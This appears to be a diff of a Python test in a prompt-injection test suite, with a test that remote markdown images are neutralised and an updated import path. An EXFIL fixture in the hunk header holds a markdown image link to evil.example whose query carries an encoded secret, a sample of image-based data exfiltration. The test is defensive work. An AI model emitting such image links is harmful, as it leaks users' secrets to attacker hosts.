@@ -249,7 +249,7 @@ EXFIL = "Summary done. ![status](https://evil.example/p.png?q=c2stc2VjcmV0) <img
 
 
 def test_pi08_remote_images_are_neutralised_in_text_for_the_editor() -> None:
-    from claw_lsp.secrets import neutralize_markdown
+    from claw_lsp.foundation.secrets import neutralize_markdown
 
     out = neutralize_markdown(EXFIL + "\n[r]: https://evil.example/?q=1\n![ok](docs/local.png)")
     assert "evil.example" not in out and "https://e/x" not in out
